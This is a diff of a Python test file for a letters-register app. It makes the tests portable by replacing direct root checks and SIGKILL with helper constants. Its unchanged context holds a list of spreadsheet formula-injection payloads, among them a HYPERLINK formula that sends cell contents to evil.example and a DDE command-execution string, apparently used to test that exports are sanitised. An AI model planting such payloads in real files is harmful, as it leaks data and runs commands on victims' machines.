@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import os
-import signal
 import stat
 import subprocess
 import sys
@@ -23,6 +22,7 @@ from app.letters.exports import evidence_pack, export_register
 from app.letters.outputs import PARTIAL_PREFIX, remove_partial_outputs
 from tests.builders import PASSPHRASE, add_request, new_register
 from tests.cli.helpers import ROOT, run_cli
+from tests.portable import IS_ROOT, KILL
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")',
             "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)"]
@@ -98,7 +98,7 @@ def test_nothing_in_the_backup_folder_is_replaced(db, capsys, tmp_path):
     assert kept.read_text() == "mine"
 
 
-@pytest.mark.skipif(os.geteuid() != 0, reason="only root makes device nodes")
+@pytest.mark.skipif(not IS_ROOT, reason="only root makes device nodes")
 def test_a_device_is_never_replaced(db, capsys, tmp_path):
     device = tmp_path / "null"  # our own /dev/null: a failing test harms no machine
     os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
@@ -241,7 +241,7 @@ def test_an_export_killed_mid_way_leaves_no_plaintext_outside_its_folder(tmp_pat
                             stdout=subprocess.PIPE, text=True)
     assert proc.stdout.readline().strip() == "started"
     time.sleep(0.3)
-    proc.send_signal(signal.SIGKILL)
+    proc.send_signal(KILL)
     proc.wait()
 
     def holding(folder: Path) -> list[Path]:
